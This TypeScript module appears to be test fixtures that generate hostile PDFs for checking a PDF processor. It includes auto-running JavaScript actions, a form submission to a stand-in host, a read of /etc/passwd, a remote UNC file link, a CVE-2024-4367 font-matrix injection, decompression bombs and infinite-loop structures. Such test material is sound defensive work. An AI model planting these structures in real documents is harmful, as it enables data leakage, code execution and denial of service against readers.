import { deflateSync } from 'node:zlib'
import { buildPdf } from '../../../scripts/demo/hostile.ts'

/** PDFs that lead a reader to run, fetch, loop or swell. None does harm by lying there. */

const stream = (isi: string | Buffer, tambahan = ''): string => {
  const teks = typeof isi === 'string' ? isi : isi.toString('latin1')
  return `<< /Length ${teks.length} ${tambahan}>>\nstream\n${teks}\nendstream`
}

const katalog = (tambahan = ''): string => `<< /Type /Catalog /Pages 2 0 R ${tambahan}>>`
const pohon = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const huruf = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const baris = 'BT /F1 12 Tf 72 700 Td (SURAT KETERANGAN) Tj ET'

function page(
  tambahan = '',
  { kotak = '0 0 595 842', sumber = '' }: { kotak?: string; sumber?: string } = {},
): string {
  return (
    `<< /Type /Page /Parent 2 0 R /MediaBox [${kotak}] /Contents 4 0 R ` +
    `/Resources << /Font << /F1 5 0 R >> ${sumber} >> ${tambahan}>>`
  )
}

/** One page; `isi` draws it, `lain` are the objects from number 6 on. */
function buildPage(
  isi: string,
  {
    tambahan = '',
    sumber = '',
    kotak = '0 0 595 842',
    akar = '',
    lain = [],
  }: {
    tambahan?: string
    sumber?: string
    kotak?: string
    akar?: string
    lain?: readonly string[]
  } = {},
): Buffer {
  return buildPdf([
    katalog(akar),
    pohon,
    page(tambahan, { kotak, sumber }),
    isi.startsWith('<<') ? isi : stream(isi),
    huruf,
    ...lain,
  ])
}

const js = (teks: string) => `<< /S /JavaScript /JS (${teks.replaceAll(/[()\\]/g, '\\$&')}) >>`
const skrip = "globalThis.document && (document.title = 'jalan'); app.alert('jalan')"
const alamat = 'http://contoh.invalid/lacak'

export const pdfAktif: Readonly<Record<string, () => Buffer>> = {
  'xfa.pdf': () =>
    buildPage(baris, {
      akar: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true ',
      lain: [
        stream(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">' +
            `<subform><event activity="initialize"><script contentType="application/x-javascript">${skrip}</script></event>` +
            `<field><ui><imageEdit/></ui><value><image href="${alamat}"/></value></field></subform></template></xdp:xdp>`,
        ),
      ],
    }),
  'formulir-skrip.pdf': () =>
    buildPage(baris, {
      akar: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] /NeedAppearances true >> ',
      tambahan: '/Annots [6 0 R] /AA << /O 7 0 R /C 7 0 R >> ',
      lain: [
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [72 600 300 620] ' +
          '/AA << /K 7 0 R /F 7 0 R /V 7 0 R /C 7 0 R /E 7 0 R /PV 7 0 R >> /A 7 0 R >>',
        js(skrip),
      ],
    }),
  'kirim-formulir.pdf': () =>
    buildPage(baris, {
      akar: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${alamat}) >> /Flags 4 >> `,
      tambahan: '/AA << /O << /S /ImportData /F (/etc/passwd) >> >> ',
    }),
  'lain-berkas.pdf': () =>
    buildPage(baris, {
      akar: String.raw`/OpenAction << /S /GoToR /F (\\\\contoh.invalid\\berbagi\\a.pdf) /D [0 /Fit] /NewWindow true >> `,
      tambahan:
        '/Annots [6 0 R] /AA << /O << /S /Rendition /R 7 0 R /OP 0 /JS (app.alert(1)) >> >> ',
      lain: [
        '<< /Type /Annot /Subtype /Screen /Rect [0 0 595 842] ' +
          `/A << /S /Rendition /OP 0 /R 7 0 R /AN 6 0 R /JS (${skrip.replaceAll(/[()]/g, '')}) >> >>`,
        `<< /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${alamat}) >> >> >>`,
      ],
    }),
  'gambar-luar.pdf': () =>
    buildPage('q 200 0 0 200 72 500 cm /X Do Q ' + baris, {
      sumber: '/XObject << /X 6 0 R >>',
      lain: [
        `<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceGray ` +
          `/F << /FS /URL /F (${alamat}) >> /FFilter /DCTDecode /Length 0 >>\nstream\n\nendstream`,
      ],
    }),
  // CVE-2024-4367: a font matrix that readers of old compiled as a program.
  'huruf-berprogram.pdf': () =>
    buildPdf([
      katalog(),
      pohon,
      page(),
      stream(baris),
      '<< /Type /Font /Subtype /Type1 /BaseFont /A /FontDescriptor 6 0 R /FirstChar 65 /LastChar 65 /Widths [600] ' +
        `/FontMatrix [0.001 0 0 0.001 0 (0\\); ${skrip.replaceAll(/[()]/g, String.raw`\$&`)} //)] >>`,
      '<< /Type /FontDescriptor /FontName /A /Flags 4 /FontBBox [0 0 1000 1000] /FontFile 7 0 R ' +
        '/ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
      stream(
        `%!PS-AdobeFont-1.0: A\n/FontName /A def /FontMatrix [0.001 0 0 0.001 0 (0); ${skrip} //] readonly def\ncurrentfile eexec\n`,
      ),
    ]),
}

/** Compressed so often that every layer hides a thousand of the next. */
function deflateTimes(isi: Buffer, kali: number): Buffer {
  let hasil = isi
  for (let n = 0; n < kali; n += 1) hasil = deflateSync(hasil, { level: 9 })
  return hasil
}

const MB = 1024 * 1024

export const pdfBengkak: Readonly<Record<string, () => Buffer>> = {
  'bom-isi.pdf': () =>
    buildPage(stream(deflateTimes(Buffer.alloc(1024 * MB, 'q Q '), 1), '/Filter /FlateDecode ')),
  'bom-berlapis.pdf': () =>
    buildPage(
      stream(
        deflateTimes(Buffer.alloc(1024 * MB, ' '), 3),
        '/Filter [/FlateDecode /FlateDecode /FlateDecode] ',
      ),
    ),
  'bom-gambar.pdf': () =>
    buildPage('q 500 0 0 700 40 60 cm /X Do Q', {
      sumber: '/XObject << /X 6 0 R >>',
      lain: [
        stream(
          deflateTimes(Buffer.alloc(256 * MB), 1),
          '/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode ',
        ),
      ],
    }),
  'gambar-di-bawah-batas.pdf': () =>
    buildPage(Array.from({ length: 40 }, () => 'q 500 0 0 700 40 60 cm /X Do Q').join('\n'), {
      sumber: '/XObject << /X 6 0 R >>',
      lain: [
        stream(
          deflateTimes(Buffer.alloc(9_900 * 9_900 * 3, 0x55), 1),
          '/Type /XObject /Subtype /Image /Width 9900 /Height 9900 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode ',
        ),
      ],
    }),
  'seratus-ribu-halaman-nyata.pdf': () =>
    buildPdf([
      katalog(),
      `<< /Type /Pages /Count 100000 /Kids [${'3 0 R '.repeat(100_000)}] >>`,
      page(),
      stream(baris),
      huruf,
    ]),
  'halaman-raksasa.pdf': () => buildPage(baris, { kotak: '0 0 1000000000 1000000000' }),
  'halaman-pipih.pdf': () => buildPage(baris, { kotak: '0 0 100000 0.01' }),
  'halaman-kosong-luas.pdf': () => buildPage(baris, { kotak: '0 0 0 0' }),
}

/** Ten forms, each drawing the next ten times: ten thousand million words. */
function buildTawaBerantai(): Buffer {
  const bentuk = Array.from({ length: 10 }, (_, i) =>
    stream(
      i === 9 ? baris : '/N Do '.repeat(10),
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> /XObject << /N ${i + 7} 0 R >> >> `,
    ),
  )
  return buildPage('/N Do', { sumber: '/XObject << /N 6 0 R >>', lain: bentuk })
}

export const pdfTakBerujung: Readonly<Record<string, () => Buffer>> = {
  'tawa-berantai.pdf': buildTawaBerantai,
  'bentuk-diri-sendiri.pdf': () =>
    buildPage('/N Do', {
      sumber: '/XObject << /N 6 0 R >>',
      lain: [
        stream(
          `${baris} /N Do`,
          '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> /XObject << /N 6 0 R >> >> ',
        ),
      ],
    }),
  'pohon-berputar.pdf': () =>
    buildPdf([
      katalog(),
      '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
      page(),
      stream(baris),
      huruf,
    ]),
  'panjang-berputar.pdf': () =>
    buildPdf([katalog(), pohon, page(), `<< /Length 4 0 R >>\nstream\n${baris}\nendstream`, huruf]),
  'rujukan-berputar.pdf': () => {
    const utuh = buildPage(baris).toString('latin1')
    const letak = /startxref\n(\d+)/.exec(utuh)?.[1] ?? '0'
    return Buffer.from(utuh.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${letak}`), 'latin1')
  },
  'pola-rapat.pdf': () =>
    buildPage('/Pattern cs /P scn 0 0 595 842 re f', {
      sumber: '/Pattern << /P 6 0 R >>',
      lain: [
        stream(
          '0 0 1 rg 0 0 0.01 0.01 re f',
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 0.01 0.01] /XStep 0.0001 /YStep 0.0001 /Resources << >> ',
        ),
      ],
    }),
  'fungsi-rakus.pdf': () =>
    buildPage('/S sh', {
      sumber: '/Shading << /S 6 0 R >>',
      lain: [
        '<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1000000 0 1000000] /Function 7 0 R >>',
        stream(
          `{ ${'dup mul sqrt abs '.repeat(20_000)} 0 0 }`,
          '/FunctionType 4 /Domain [0 1000000 0 1000000] /Range [0 1 0 1 0 1] ',
        ),
      ],
    }),
  'garis-sejuta.pdf': () =>
    buildPage(
      stream(
        deflateTimes(
          Buffer.from('0 0 m 595 842 l 595 0 l 0 842 l S\n'.repeat(1_500_000), 'latin1'),
          1,
        ),
        '/Filter /FlateDecode ',
      ),
    ),
  'sarang-larik.pdf': () => buildPage(`${'[ '.repeat(200_000)}${baris}`),
  'simpan-sejuta.pdf': () => buildPage(`${'q '.repeat(2_000_000)}${baris}`),
}
